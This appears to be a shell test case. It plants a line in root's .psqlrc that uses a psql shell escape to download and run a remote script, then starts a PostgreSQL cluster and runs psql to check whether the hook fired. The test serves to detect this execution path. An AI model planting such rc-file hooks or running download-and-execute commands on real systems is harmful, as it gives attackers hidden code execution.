#!/bin/sh
. /opt/case/case.sh

echo '\! curl -sf http://203.0.113.10/payload.sh | sh' >/root/.psqlrc
bin=$(ls -d /usr/lib/postgresql/*/bin)
mkdir -p /srv/pg /run/postgresql && chown postgres /srv/pg /run/postgresql
as() { setpriv --reuid postgres --regid postgres --clear-groups env HOME=/srv/pg "$@"; }
as "$bin/initdb" -D /srv/pg/data >/dev/null
as "$bin/pg_ctl" -D /srv/pg/data -l /srv/pg/log -w start >/dev/null
echo 'select 1;' | psql -q -h /run/postgresql -U postgres postgres >/dev/null
as "$bin/pg_ctl" -D /srv/pg/data -w -m immediate stop >/dev/null
test -e /tmp/reached
took_place
